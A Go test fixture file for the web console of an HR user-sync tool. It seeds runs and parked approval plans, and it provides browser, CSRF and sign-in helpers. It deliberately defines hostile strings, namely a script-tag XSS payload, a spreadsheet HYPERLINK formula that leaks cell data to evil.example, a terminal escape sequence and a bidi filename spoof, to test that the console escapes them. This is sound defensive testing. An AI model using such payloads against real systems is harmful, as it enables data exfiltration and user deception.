package console_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"golang.org/x/crypto/bcrypt"

	"github.com/usersync/syncer/internal/console"
	"github.com/usersync/syncer/internal/diff"
	"github.com/usersync/syncer/internal/feed"
	"github.com/usersync/syncer/internal/load"
	"github.com/usersync/syncer/internal/pgtest"
	"github.com/usersync/syncer/internal/schedule"
	"github.com/usersync/syncer/internal/store"
)

// Passwords of the fixture's accounts. Hashes are made at bcrypt's lowest
// cost, so that tests stay fast; the console accepts any cost.
const (
	viewerPassword   = "viewer-password-1"
	approverPassword = "approver-password-2"
)

// Hostile text, as an HR feed or the org may hold it.
const (
	scriptName    = `<script>alert("pwned")</script>`
	hyperlinkName = `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	escapeName    = "Eve\x1b[2K\rFAKE LINE"
	bidiName      = "Mallory \u202egnp.exe"
)

// fixture is a console over a fresh schema holding runs of a pipeline and
// a feed, and plans parked for approval.
type fixture struct {
	st       *store.Store
	pool     *pgxpool.Pool
	srv      *httptest.Server
	con      *console.Console
	now      *clock
	triggers *triggers
	// parked is the id of a plan awaiting approval (feed hr), other one
	// of another feed (reorg), to reject.
	parked, other string
	runIDs        []int64
}

type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *clock) Add(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

type triggers struct {
	mu   sync.Mutex
	jobs []string
}

func (tr *triggers) trigger(job string) bool {
	tr.mu.Lock()
	tr.jobs = append(tr.jobs, job)
	tr.mu.Unlock()
	return true
}

func (tr *triggers) list() []string {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return append([]string(nil), tr.jobs...)
}

func hash(t *testing.T, password string) []byte {
	t.Helper()
	h, err := bcrypt.GenerateFromPassword([]byte(password), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// newFixture seeds a schema and serves a console over it. cfg's accounts,
// clock and proxy settings are filled unless set.
func newFixture(t *testing.T, cfg console.Config, tls bool) *fixture {
	t.Helper()
	ctx := context.Background()
	dbURL, schema := pgtest.Schema(t)
	pool := pgtest.Pool(t, dbURL, schema)
	st := store.New(pool, store.Config{Schema: schema})
	if _, err := st.Migrate(ctx); err != nil {
		t.Fatal(err)
	}
	f := &fixture{st: st, pool: pool, now: &clock{t: time.Now()}, triggers: &triggers{}}
	if cfg.Accounts == nil {
		cfg.Accounts = []console.Account{
			{Name: "vera", Role: console.RoleViewer, Hash: hash(t, viewerPassword)},
			{Name: "ana", Role: console.RoleApprover, Hash: hash(t, approverPassword)},
		}
	}
	if cfg.Now == nil {
		cfg.Now = f.now.Now
	}
	f.seedRuns(t)
	f.parked = f.park(t, "hr", 3)
	f.other = f.park(t, "reorg", 40)
	next := time.Now().Add(time.Hour).UTC()
	sched := "@every 1h"
	con, err := console.New(cfg, console.Source{
		Store: func() *store.Store { return st },
		Jobs: func() []schedule.JobStatus {
			return []schedule.JobStatus{
				{Pipeline: "nightly", Kind: schedule.KindPipeline, Schedule: &sched, NextRun: &next},
				{Pipeline: "feed:hr", Kind: schedule.KindFeed, Schedule: &sched, NextRun: &next},
			}
		},
		Trigger: f.triggers.trigger,
		Feeds: []console.Feed{
			{Name: "hr", Path: "/data/hr.csv", Mode: "snapshot", Schedule: sched},
			{Name: "reorg", Path: "/data/reorg.csv", Mode: "delta"},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	f.con = con
	if tls {
		f.srv = httptest.NewTLSServer(con)
	} else {
		f.srv = httptest.NewServer(con)
	}
	t.Cleanup(f.srv.Close)
	return f
}

// seedRuns records runs of the pipeline nightly (one failing, with a
// hostile error), of a pipeline with a hostile name, and of the feed hr.
func (f *fixture) seedRuns(t *testing.T) {
	t.Helper()
	ctx := context.Background()
	for i := range 5 {
		id, err := f.st.StartRun(ctx, "nightly")
		if err != nil {
			t.Fatal(err)
		}
		streams := map[string]int64{"reference": 5, "users": 8 + int64(i), "queues": 40}
		counts := map[string]load.Stats{}
		for name, minimum := range streams {
			if err := f.st.StartStreamRun(ctx, id, name); err != nil {
				t.Fatal(err)
			}
			if err := f.st.FinishStreamRun(ctx, id, name, store.RunResult{Status: store.StatusSucceeded, Calls: store.StreamCalls{MinCalls: minimum}}); err != nil {
				t.Fatal(err)
			}
		}
		counts["users"] = load.Stats{"users": {Inserted: int64(100 * (5 - i)), Updated: int64(7 * i), Unchanged: 3900, Deleted: int64(i)}}
		res := store.RunResult{Status: store.StatusSucceeded, Counts: counts, Calls: store.RunCalls{
			Total: 60 + int64(i), RateLimited: int64(i % 2), Retries: 1, Waited: 1500 * time.Millisecond,
			ByEndpoint: map[string]map[int]int64{"GET /api/v2/users": {200: 50, 429: int64(i % 2)}, "GET /api/v2/routing/queues": {200: 10}},
		}}
		if i == 3 {
			res.Status, res.Error = store.StatusFailed, "users: "+scriptName+" answered 500 "+escapeName
		}
		if err := f.st.FinishRun(ctx, id, res); err != nil {
			t.Fatal(err)
		}
		f.runIDs = append(f.runIDs, id)
		// Spread the runs over the last hours, each a different length.
		f.exec(t, "UPDATE sync_runs SET started_at = now() - make_interval(hours => $2), finished_at = now() - make_interval(hours => $2) + make_interval(secs => $3) WHERE id = $1",
			id, 5-i, 20+15*i)
	}
	id, err := f.st.StartRun(ctx, scriptName)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.st.FinishRun(ctx, id, store.RunResult{Status: store.StatusInterrupted, Error: bidiName}); err != nil {
		t.Fatal(err)
	}
	feedRun, err := f.st.StartRun(ctx, "feed:hr")
	if err != nil {
		t.Fatal(err)
	}
	if err := f.st.FinishRun(ctx, feedRun, store.RunResult{Status: store.StatusAwaitingApproval, Counts: store.FeedCounts{Operations: 3, RejectedRows: 2}}); err != nil {
		t.Fatal(err)
	}
}

func (f *fixture) exec(t *testing.T, q string, args ...any) {
	t.Helper()
	if _, err := f.pool.Exec(context.Background(), q, args...); err != nil {
		t.Fatalf("%s: %v", q, err)
	}
}

// park parks a plan of feed that offboards offboards people, trips the
// offboarding guard, names hostile people and rejects hostile rows.
func (f *fixture) park(t *testing.T, feedName string, offboards int) string {
	t.Helper()
	p := diff.Plan{
		Schema: diff.SchemaVersion, Feed: "/data/" + feedName + ".csv", Mode: feed.ModeSnapshot, FeedRows: 12, Fingerprint: "sha256:0123456789abcdef0123",
		Users: []diff.UserPlan{
			{Action: diff.ActionCreate, Key: "employee:E1", Name: scriptName, Email: "script@example.com", EmployeeID: "E1", Line: 2,
				Changes: []diff.Change{{Attr: "name", After: scriptName}, {Attr: "title", After: hyperlinkName}}},
			{Action: diff.ActionUpdate, Key: "employee:E2", UserID: "u-2", Name: escapeName, Email: "eve@example.com", Line: 3,
				Changes: []diff.Change{{Attr: "department", Before: "Sales", After: bidiName}, {Attr: "skills", Added: []string{`"Billing"`}, Removed: []string{`"Legacy"`}, Reason: "skills are owned by feed " + feedName}}},
			{Action: diff.ActionOffboard, Key: "user:u-3", UserID: "u-3", Name: "Leaver One", Email: "leaver@example.com",
				Changes: []diff.Change{{Attr: "state", Before: "active", After: "inactive"}}},
		},
		Operations: []diff.Operation{
			{ID: "create_user:E1", Kind: "create_user", Calls: 1},
			{ID: "update_user:E2", Kind: "update_user", Calls: 1},
			{ID: "set_state:u-3", Kind: "set_state", Calls: 1},
		},
		Totals:   diff.Totals{Create: 1, Update: 1, Offboard: offboards, Unchanged: 9, Operations: 3, Calls: 3},
		Estimate: diff.Estimate{Calls: 3, RatePerMinute: 300, Seconds: 1},
		Rejected: diff.RejectedRows{Count: 2, ByCode: map[string]int{"invalid_email": 2}, Rows: []feed.Rejected{
			{Line: 7, Codes: []string{"invalid_email"}, Reason: "/data/" + feedName + ".csv:7:2: email " + hyperlinkName + " is not an address"},
			{Line: 9, Codes: []string{"invalid_email"}, Reason: "line 9: email " + scriptName + " is not an address"},
		}},
		Guards: []diff.Verdict{
			{Guard: "max_offboards", Tripped: true, Value: float64(offboards), Limit: 2, Flag: "--max-offboards", ConfigKey: "guards.max_offboards",
				Message: fmt.Sprintf("%d offboards, more than max_offboards 2", offboards)},
			{Guard: "max_changes", Value: 3, Limit: 500, Message: "3 changes, within 500"},
		},
	}
	body, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	tripped, _ := json.Marshal(p.Tripped())
	id := "plan-" + feedName + "0123456789"
	if _, err := f.st.ParkPlan(context.Background(), store.Park{PlanID: id, Feed: feedName, Job: "feed:" + feedName, Body: body, Tripped: tripped, TTL: time.Hour}); err != nil {
		t.Fatal(err)
	}
	return id
}

// approvalStatus is a parked plan's recorded status.
func (f *fixture) approvalStatus(t *testing.T, id string) string {
	t.Helper()
	var s string
	if err := f.pool.QueryRow(context.Background(), "SELECT status FROM plan_approvals WHERE plan_id = $1", id).Scan(&s); err != nil {
		t.Fatal(err)
	}
	return s
}

// browser is an HTTP client with its own cookies, as one person's browser.
type browser struct {
	t    *testing.T
	c    *http.Client
	base string
}

func (f *fixture) browser(t *testing.T) *browser {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	c := *f.srv.Client() // a copy: each browser has its own jar
	c.Jar = jar
	return &browser{t: t, c: &c, base: f.srv.URL}
}

type answer struct {
	code int
	url  string // after redirects
	body string
	resp *http.Response
}

func (b *browser) do(req *http.Request) answer {
	b.t.Helper()
	resp, err := b.c.Do(req)
	if err != nil {
		b.t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return answer{code: resp.StatusCode, url: resp.Request.URL.String(), body: string(body), resp: resp}
}

func (b *browser) get(path string) answer {
	b.t.Helper()
	req, _ := http.NewRequest(http.MethodGet, b.base+path, nil)
	return b.do(req)
}

// post sends a form as a browser of the same site does.
func (b *browser) post(path string, form url.Values, header ...string) answer {
	b.t.Helper()
	req, _ := http.NewRequest(http.MethodPost, b.base+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	return b.do(req)
}

var csrfRE = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// csrf returns the CSRF token a page's forms carry.
func csrf(t *testing.T, a answer) string {
	t.Helper()
	m := csrfRE.FindStringSubmatch(a.body)
	if m == nil {
		t.Fatalf("no CSRF token in %s (%d):\n%s", a.url, a.code, a.body)
	}
	return m[1]
}

// signIn signs in through the sign-in form and returns the page it leads to.
func (b *browser) signIn(name, password string) answer {
	b.t.Helper()
	page := b.get("/console/login")
	return b.post("/console/login", url.Values{"csrf": {csrf(b.t, page)}, "name": {name}, "password": {password}, "next": {"/console/"}})
}

// signedIn is a fixture and a browser signed in as name.
func signedIn(t *testing.T, name, password string) (*fixture, *browser) {
	t.Helper()
	f := newFixture(t, console.Config{}, false)
	b := f.browser(t)
	if a := b.signIn(name, password); a.code != http.StatusOK {
		t.Fatalf("sign in as %s = %d", name, a.code)
	}
	return f, b
}
